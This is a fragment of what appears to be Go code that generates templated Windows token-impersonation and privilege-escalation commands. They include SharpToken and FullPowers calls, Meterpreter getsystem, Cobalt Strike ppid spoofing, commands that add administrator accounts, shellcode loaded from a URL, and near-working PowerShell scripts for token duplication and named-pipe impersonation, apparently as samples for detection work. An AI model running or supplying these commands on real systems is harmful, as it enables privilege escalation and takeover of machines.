			`SharpImpersonation.exe list{{| elevated}}`, `SharpImpersonation.exe user:{{domain}}\{{user}} binary:{{shell}}`,
			`SharpImpersonation.exe pid:{{pid}} binary:"{{payload}}"`, `SharpImpersonation.exe user:{{user}} shellcode:{{url}}/{{word}}.bin`,
			`SharpImpersonation.exe user:{{user}} technique:ImpersonateLoggedOnuser`, `execute-assembly SharpImpersonation.exe pid:{{pid}} binary:{{shell}}`),
		fam("token/sharptoken", c, "windows", Cmd,
			`SharpToken.exe list_token{{| {{pid}}}}`, `SharpToken.exe execute "{{sysacct}}" "{{shell}}" true`, `SharpToken.exe add_user {{user}} {{pass}}`,
			`SharpToken.exe enableUser {{user}} {{pass}} administrators`, `SharpToken.exe tscon {{n}}`, `SharpToken.exe list_all_token`,
			`SharpToken.exe execute "{{sysacct}}" "{{payload}}"`),
		fam("token/fullpowers", c, "windows", Cmd,
			`FullPowers{{|.exe}}`, `FullPowers.exe -c "{{payload}}"{{| -z}}`, `FullPowers.exe -x`,
			`{{wtemp}}\FullPowers.exe -c "{{wtemp}}\{{rndexe}}"`, `FullPowers.exe -c "powershell -ep Bypass" -z`),
		fam("token/koh-tokenplayer", c, "windows", Cmd,
			`Koh.exe {{monitor|list|capture}}`, `Koh.exe impersonate {{n}}`, `Koh.exe release all`,
			`TokenPlayer.exe --impersonate --pid {{pid}}`, `TokenPlayer.exe --spoofppid --ppid {{pid}} --prog {{shell}}`,
			`TokenPlayer.exe --maketoken --username {{user}} --password {{pass}} --domain {{domain}}`,
			`SharpDuplicateToken.exe {{pid}}`, `TokenUniverse.exe --steal {{pid}}`),
		fam("token/meterpreter-getsystem", c, "windows", Raw,
			`getsystem`, `getsystem -t {{0|1|2|3|4|5|6}}`, `meterpreter > getsystem{{| -t {{n}}}}`, `meterpreter > getsystem -t 1`,
			`run post/windows/escalate/getsystem{{| TECHNIQUE={{n}}}}`, `use post/windows/escalate/getsystem{{| {{amp}} set SESSION {{n}} {{amp}} run}}`, `getsystem -h {{amp}} getsystem -t {{n}}`,
			`sessions -i {{n}} -C getsystem`, `sessions -C "getsystem -t {{n}}"`, `msf6 post(windows/escalate/getsystem) > set SESSION {{n}}`, `run -j post/windows/escalate/getsystem SESSION={{num}}`,
			`use exploit/windows/local/ms16_075_reflection_juicy`, `use exploit/windows/local/ms16_075_reflection`),
		fam("token/cs-ppid-runu", c, "windows", Raw,
			`ppid {{pid}}`, `beacon> ppid {{pid}}`, `runu {{pid}} {{shell}}`, `beacon> runu {{pid}} {{payload}}`,
			`ppid {{pid}} {{amp}} spawnto x64 %windir%\sysnative\{{word}}.exe`, `spawn --ppid {{pid}} {{shell}}`,
			`execute -f {{shell}} --ppid {{pid}}`, `sliver > execute --ppid {{pid}} {{shell}}`),
		fam("token/createprocessasuser-script", c, "windows", Script,
			`$code = @"
using System; using System.Runtime.InteropServices;
public class CPAU {
  [DllImport("advapi32.dll", SetLastError=true, CharSet=CharSet.Auto)]
  public static extern bool CreateProcessAsUser(IntPtr hToken, string app, string cmd, IntPtr pa, IntPtr ta, bool inherit, uint flags, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
  [DllImport("advapi32.dll")] public static extern bool DuplicateTokenEx(IntPtr t, uint a, IntPtr s, int il, int tt, out IntPtr n);
  [DllImport("wtsapi32.dll")] public static extern bool WTSQueryUserToken(uint session, out IntPtr token);
}
"@
Add-Type $code
[CPAU]::WTSQueryUserToken({{n}}, [ref]$ut)
[CPAU]::DuplicateTokenEx($ut, 0x10000000, [IntPtr]::Zero, 2, 1, [ref]$pt)
[CPAU]::CreateProcessAsUser($pt, $null, "{{shell}}", [IntPtr]::Zero, [IntPtr]::Zero, $false, 0x400, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`$s = Get-Process -Id {{pid}}
$h = [Native]::OpenProcess(0x1000, $false, $s.Id)
[Native]::OpenProcessToken($h, 0x2, [ref]$tok)
[Native]::DuplicateTokenEx($tok, 0xF01FF, [IntPtr]::Zero, 2, 1, [ref]$prim)
[Native]::CreateProcessAsUser($prim, "{{shell}}", $null, [IntPtr]::Zero, [IntPtr]::Zero, $false, 0, [IntPtr]::Zero, "C:\", [ref]$si, [ref]$pi)`),
		fam("token/namedpipe-impersonation-script", c, "windows", Script,
			`Add-Type @"
using System; using System.Runtime.InteropServices;
public class NP { [DllImport("advapi32.dll", SetLastError=true)] public static extern bool ImpersonateNamedPipeClient(IntPtr h); [DllImport("advapi32.dll")] public static extern bool RevertToSelf(); }
"@
$srv = New-Object System.IO.Pipes.NamedPipeServerStream("{{word}}", [System.IO.Pipes.PipeDirection]::InOut)
$srv.WaitForConnection()
[NP]::ImpersonateNamedPipeClient($srv.SafePipeHandle.DangerousGetHandle())
Start-Process {{shell}}`,
			`$pipe = New-Object System.IO.Pipes.NamedPipeServerStream "{{word}}"
$pipe.WaitForConnection()
$pipe.RunAsClient({ {{payload}} })`,
			`sc create {{word}} binpath= "cmd /c echo x > \\.\pipe\{{word}}" {{amp}} sc start {{word}}`),
		fam("token/logonuser-impersonation-script", c, "windows", Script,
			`$sig = '[DllImport("advapi32.dll", SetLastError = true)] public static extern bool LogonUser(string lpszUsername, string lpszDomain, string lpszPassword, int dwLogonType, int dwLogonProvider, ref IntPtr phToken);'
$LogonUser = Add-Type -MemberDefinition $sig -Name "Win32LogonUser" -Namespace Win32Functions -PassThru
$token = [IntPtr]::Zero
$LogonUser::LogonUser("{{user}}", "{{domain}}", "{{pass}}", 9, 0, [ref]$token)
$ctx = [System.Security.Principal.WindowsIdentity]::Impersonate($token)
Get-ChildItem \\{{host}}\c$`,
			`[DllImport("advapi32.dll")] static extern bool LogonUserA(string u, string d, string p, int type, int prov, out IntPtr tok);
LogonUserA("{{user}}", "{{domain}}", "{{pass}}", 9, 3, out hTok);
ImpersonateLoggedOnUser(hTok);`),
	}
}
